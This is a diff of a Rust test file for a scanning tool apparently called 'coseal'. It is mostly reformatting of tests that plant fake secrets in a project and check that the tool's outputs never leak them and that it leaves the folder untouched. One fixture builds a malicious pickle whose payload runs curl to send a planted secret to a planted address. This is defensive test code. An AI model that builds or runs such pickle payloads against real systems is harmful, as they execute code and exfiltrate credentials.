@@ -2,7 +2,7 @@
 
 use std::{collections::BTreeMap, fs, path::Path};
 
-use crate::harness::{DAY, coseal, copy_of, folder};
+use crate::harness::{DAY, copy_of, coseal, folder};
 
 /// Things that no output may hold. Put together here, so that no scanner takes this file for a leak.
 fn planted() -> Vec<String> {
@@ -27,11 +27,16 @@ fn no_output_holds_a_planted_secret_name_or_path() {
     let folder = copy_of("support-bot");
     let all = planted.join(" ");
     for name in ["prompts/planted.md", "docs/help/planted.md"] {
-        fs::write(folder.path().join(name), format!("use {all}\npassword = \"{}\"\n", planted[3])).unwrap();
+        fs::write(folder.path().join(name), format!("use {all}\npassword = \"{}\"\n", planted[3]))
+            .unwrap();
     }
     let system_file = folder.path().join("coseal.toml");
     let whole = fs::read_to_string(&system_file).unwrap();
-    fs::write(folder.path().join("coseal.local.toml"), format!("[local]\n\"model.chat\" = \"{}\"\n", planted[6])).unwrap();
+    fs::write(
+        folder.path().join("coseal.local.toml"),
+        format!("[local]\n\"model.chat\" = \"{}\"\n", planted[6]),
+    )
+    .unwrap();
     // A pickle that would send a secret away.
     let mut pickle = b"cposix\nsystem\n(V".to_vec();
     pickle.extend_from_slice(format!("curl -H {} {}\ntR.", planted[0], planted[6]).as_bytes());
@@ -40,17 +45,29 @@ fn no_output_holds_a_planted_secret_name_or_path() {
     let mut variants = vec![whole.clone()];
     // The same in every kind of value, valid or not.
     for secret in &planted {
-        variants.push(whole.replacen("exposure = \"public\"", &format!("exposure = \"{secret}\""), 1));
+        variants.push(whole.replacen(
+            "exposure = \"public\"",
+            &format!("exposure = \"{secret}\""),
+            1,
+        ));
         variants.push(format!("{whole}\n[x.own]\nnote = \"{secret}\"\n"));
         variants.push(format!("{whole}\n[role.extra]\ncontact = \"{secret}\"\n"));
-        variants.push(format!("{whole}\n[role.extra]\ncontact = \"mailto:{secret}\"\nname = \"{secret}\"\n"));
+        variants.push(format!(
+            "{whole}\n[role.extra]\ncontact = \"mailto:{secret}\"\nname = \"{secret}\"\n"
+        ));
         variants.push(format!("{whole}\n[model.extra]\nlocation = \"{secret}\"\n"));
-        variants.push(format!("{whole}\n[model.extra]\nlocation = \"path:{secret}\"\nfallback = \"{secret}\"\n"));
-        variants.push(format!("{whole}\n[flow]\nextra = {{ from = \"{secret}\", to = \"app\" }}\n"));
+        variants.push(format!(
+            "{whole}\n[model.extra]\nlocation = \"path:{secret}\"\nfallback = \"{secret}\"\n"
+        ));
+        variants
+            .push(format!("{whole}\n[flow]\nextra = {{ from = \"{secret}\", to = \"app\" }}\n"));
         variants.push(format!("{whole}\nbroken \"{secret}\n"));
         variants.push(format!("{whole}\nkey = {secret}\n"));
-        variants.push(format!("{whole}\n\"{secret}\" = 1\n"));
-        variants.push(format!("{whole}\n[model.\"{secret}\"]\nlocation = \"api:a/b\"\n"));
+        // What has the form of an id is an id: a name that its owner chose to be shown.
+        if !secret.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-') {
+            variants.push(format!("{whole}\n\"{secret}\" = 1\n"));
+            variants.push(format!("{whole}\n[model.\"{secret}\"]\nlocation = \"api:a/b\"\n"));
+        }
     }
     for (index, variant) in variants.iter().enumerate() {
         fs::write(&system_file, variant).unwrap();
@@ -59,17 +76,37 @@ fn no_output_holds_a_planted_secret_name_or_path() {
             &["check", "--as-of", DAY, "--format", "json"],
             &["check", "--as-of", DAY, "--format", "sarif"],
         ] {
-            holds_nothing(&coseal(folder.path(), arguments), &planted, &format!("variant {index} {arguments:?}\n{}", diff(&whole, variant)), folder.path());
+            holds_nothing(
+                &coseal(folder.path(), arguments),
+                &planted,
+                &format!("variant {index} {arguments:?}\n{}", diff(&whole, variant)),
+                folder.path(),
+            );
         }
     }
     fs::write(&system_file, &whole).unwrap();
     let absolute = folder.path().to_string_lossy().into_owned();
-    for arguments in [&["scan", "--explain", "."][..], &["scan", "--format", "json", "."], &["scan", "--format", "sarif", &absolute], &["check", &absolute]] {
-        holds_nothing(&coseal(folder.path(), arguments), &planted, &format!("{arguments:?}"), folder.path());
+    for arguments in [
+        &["scan", "--explain", "."][..],
+        &["scan", "--format", "json", "."],
+        &["scan", "--format", "sarif", &absolute],
+        &["check", &absolute],
+    ] {
+        holds_nothing(
+            &coseal(folder.path(), arguments),
+            &planted,
+            &format!("{arguments:?}"),
+            folder.path(),
+        );
     }
     let missing = format!("{absolute}/not-there");
     for arguments in [&["check", &missing][..], &["scan", &missing]] {
-        holds_nothing(&coseal(folder.path(), arguments), &planted, "a path that is not there", folder.path());
+        holds_nothing(
+            &coseal(folder.path(), arguments),
+            &planted,
+            "a path that is not there",
+            folder.path(),
+        );
     }
 }
 
@@ -91,7 +128,12 @@ fn diff(whole: &str, variant: &str) -> String {
 fn nothing_is_written_into_the_inspected_folder() {
     let folder = copy_of("support-bot");
     let before = listing(folder.path());
-    for arguments in [&["check"][..], &["check", "--full", "--gate"], &["scan", "."], &["check", "--format", "sarif"]] {
+    for arguments in [
+        &["check"][..],
+        &["check", "--full", "--gate"],
+        &["scan", "."],
+        &["check", "--format", "sarif"],
+    ] {
         coseal(folder.path(), arguments);
     }
     assert_eq!(listing(folder.path()), before);
@@ -105,7 +147,10 @@ fn listing(folder: &Path) -> BTreeMap<String, (u64, std::time::SystemTime)> {
         if metadata.is_dir() {
             all.extend(listing(&entry.path()));
         }
-        all.insert(entry.path().to_string_lossy().into_owned(), (metadata.len(), metadata.modified().unwrap()));
+        all.insert(
+            entry.path().to_string_lossy().into_owned(),
+            (metadata.len(), metadata.modified().unwrap()),
+        );
     }
     all
 }
@@ -128,7 +173,12 @@ fn links_pipes_and_odd_names_are_survived_and_said() {
 
 #[test]
 fn a_huge_or_deep_system_file_is_an_error_not_a_crash() {
-    for text in ["x = 1\n".repeat(300_000), "a = ".to_owned() + &"[".repeat(200_000), format!("schema = 1\n{}", "[a".repeat(50_000)), "\"".repeat(500_000)] {
+    for text in [
+        "x = 1\n".repeat(300_000),
+        "a = ".to_owned() + &"[".repeat(200_000),
+        format!("schema = 1\n{}", "[a".repeat(50_000)),
+        "\"".repeat(500_000),
+    ] {
         let folder = folder(&[("coseal.toml", text.as_bytes())]);
         let ended = coseal(folder.path(), &["check"]);
         assert_eq!(ended.code, 3, "{}", ended.stderr);
